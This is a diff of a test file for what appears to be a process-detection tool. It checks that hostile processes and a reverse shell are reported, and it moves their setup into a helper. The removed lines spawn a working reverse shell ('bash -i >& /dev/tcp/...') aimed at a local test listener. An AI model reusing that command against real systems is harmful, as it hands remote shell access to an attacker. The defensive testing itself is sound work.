@@ -5,39 +5,23 @@
 // reverse-shell-command-line until the 30 s rule timeout, the run hit its 60 s deadline, and the reverse
 // shell went unreported. The run's time is measured under 2 cores by bench/hostile.bench.ts (under 5 s):
 // this test asserts what the user sees, not a time.
-import {type ChildProcess, spawn} from 'node:child_process';
 import {readFileSync} from 'node:fs';
-import {createServer, type Server, type Socket} from 'node:net';
 
 import {afterAll, beforeAll, describe, expect, it} from 'vitest';
 
 import type {Alert} from '../../src/models/alert.js';
 import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
 import {HOSTILE_ARGVS} from '../helpers/hostile-argv.js';
+import {SuspectProcesses} from '../helpers/suspects.js';
 
 const dir = tempDir();
 const env = isolatedEnv(dir);
-const children: ChildProcess[] = [];
-const sockets: Socket[] = [];
-let server: Server | undefined;
+const suspects = new SuspectProcesses();
+// A bare environment: argv and environment share the kernel's 2 MB limit.
+const BARE = {env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}};
 
 /** The issue's four at 1 MB of text each; the others at 250 KB. */
 const SIZE = (index: number): number => (index < 4 ? 1_000_000 : 250_000);
-
-function start(command: string, args: string[]): Promise<ChildProcess> {
-  return new Promise((resolve, reject) => {
-    // A bare environment: argv and environment share the kernel's 2 MB limit.
-    const child = spawn(command, args, {detached: true, stdio: 'ignore', env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}});
-    children.push(child);
-    child.once('error', reject);
-    child.once('spawn', () => resolve(child));
-  });
-}
-
-function pidOf(child: ChildProcess): number {
-  if (child.pid === undefined) throw new Error('child has no pid');
-  return child.pid;
-}
 
 const hostilePids: number[] = [];
 let reverseShellPid = 0;
@@ -46,37 +30,14 @@ let detect: {code: number; stdout: string; stderr: string};
 beforeAll(async () => {
   for (const [index, hostile] of HOSTILE_ARGVS.entries()) {
     const [program, ...args] = hostile.argv(SIZE(index));
-    hostilePids.push(pidOf(await start(program as string, args)));
+    hostilePids.push(await suspects.start(program as string, args, BARE));
   }
-  const connected = new Promise<void>((resolve) => {
-    server = createServer((socket) => {
-      sockets.push(socket);
-      resolve();
-    });
-  });
-  const port = await new Promise<number>((resolve) => {
-    server?.listen(0, '127.0.0.1', () => {
-      const address = server?.address();
-      resolve(typeof address === 'object' && address !== null ? address.port : 0);
-    });
-  });
-  // `; true` keeps the outer bash -c from exec'ing the inner one, so its command line stays the reverse shell's.
-  reverseShellPid = pidOf(await start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]));
-  await connected;
+  reverseShellPid = await suspects.reverseShell(BARE);
   detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 300_000});
 }, 400_000);
 
 afterAll(() => {
-  for (const socket of sockets) socket.destroy();
-  server?.close();
-  for (const child of children) {
-    try {
-      // Each child leads its own process group: this also ends the shells' sleeps and the inner bash.
-      process.kill(-pidOf(child), 'SIGKILL');
-    } catch {
-      // already gone
-    }
-  }
+  suspects.stopAll();
   removeDir(dir);
 });
 
